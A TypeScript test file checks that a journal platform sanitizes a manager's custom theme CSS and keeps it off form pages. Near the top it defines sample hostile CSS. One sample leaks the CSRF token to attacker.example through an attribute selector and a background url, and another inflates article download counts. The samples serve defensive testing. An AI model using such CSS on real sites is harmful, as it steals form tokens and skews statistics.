import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { startTestApp, visibleText, type TestApp } from '../../test/support/app.ts';
import { testDatabases } from '../../test/support/databases.ts';
import { Session, signedInAs } from '../../test/support/session.ts';

/** Issue 15, finding 12: a manager's CSS that reads the form token, and one that counts downloads. */
const READS_TOKEN = 'form:has(input[name="_csrf"][value^="b"]) { background: url(https://attacker.example/b) }';
const COUNTS = '.site-header { background-image: url(/sm/article/download/1786/1) }';
const HARMLESS = '.site-footer { border-top: 4px solid #123456 }';

const themeLink = (html: string) => /<link rel="stylesheet" href="(\/sm\/theme\.css\?v=[^"]+)"/.exec(html)?.[1];

for (const database of await testDatabases()) {
  describe(`the journal’s theme on ${database.name}`, () => {
    let t: TestApp;
    let manager: Session;

    before(async () => {
      t = await startTestApp(database, { pageCache: false });
      manager = await signedInAs(t.app, t.database.db, { email: 'manager@example.org', role: 'manager', journalId: 1 });
      await manager.get('/sm/management/appearance');
      const saved = await manager.postMultipart('/sm/management/appearance', { colour: '#7b1fa2', customCss: [READS_TOKEN, COUNTS, HARMLESS].join('\n') });
      assert.equal(saved.statusCode, 200, 'saved, with what was removed shown');
      assert.match(visibleText(saved.body), /removed because they could load or run code, or read what a page holds/);
      await t.changes.sync();
    });
    after(() => t.close());

    it('keeps from the saved CSS only what neither reads the page nor loads an address', async () => {
      const stored = (await t.database.db.selectFrom('journals').select('custom_css').where('path', '=', 'sm').executeTakeFirstOrThrow()).custom_css ?? '';
      assert.match(stored, /border-top: 4px solid #123456/);
      for (const part of ['value^=', ':has', 'attacker', 'download']) assert.ok(!stored.includes(part), `stored CSS keeps ${part}`);
    });

    it('serves CSS that reached the database another way sanitized', async () => {
      await t.database.db.updateTable('journals').set({ custom_css: [READS_TOKEN, COUNTS, HARMLESS].join('\n') }).where('path', '=', 'sm').execute();
      await t.changes.sync();
      const href = themeLink((await t.app.inject({ url: '/sm' })).body);
      assert.ok(href, 'the home page links the theme');
      const css = (await t.app.inject({ url: href })).body;
      assert.match(css, /--accent: #7b1fa2/);
      assert.match(css, /border-top: 4px solid #123456/);
      for (const part of ['value^=', ':has', 'attacker', 'download']) assert.ok(!css.includes(part), `theme.css has ${part}`);
    });

    it('dresses the public pages, for visitors and signed-in people alike', async () => {
      for (const url of ['/sm', '/sm/article/view/1786', '/sm/issue/archive', '/sm/about', '/sm/no-such-page']) {
        assert.ok(themeLink((await t.app.inject({ url })).body), `${url} for a visitor`);
        assert.ok(themeLink((await manager.get(url)).body), `${url} for the manager`);
      }
    });

    it('never loads on pages with forms: management, profile, sign-in, registration, password reset', async () => {
      for (const url of ['/sm/management/appearance', '/sm/management/stats', '/sm/management/settings', '/sm/user/profile']) {
        const page = await manager.get(url);
        assert.equal(page.statusCode, 200, url);
        assert.match(page.body, /name="_csrf"/, `${url} carries the form token`);
        assert.equal(themeLink(page.body), undefined, `${url} loads the journal's CSS`);
      }
      const visitor = new Session(t.app, { 'accept-language': 'en' });
      for (const url of ['/sm/login', '/sm/user/register', '/sm/login/lostPassword']) {
        const page = await visitor.get(url);
        assert.equal(page.statusCode, 200, url);
        assert.equal(themeLink(page.body), undefined, `${url} loads the journal's CSS`);
      }
    });
  });
}
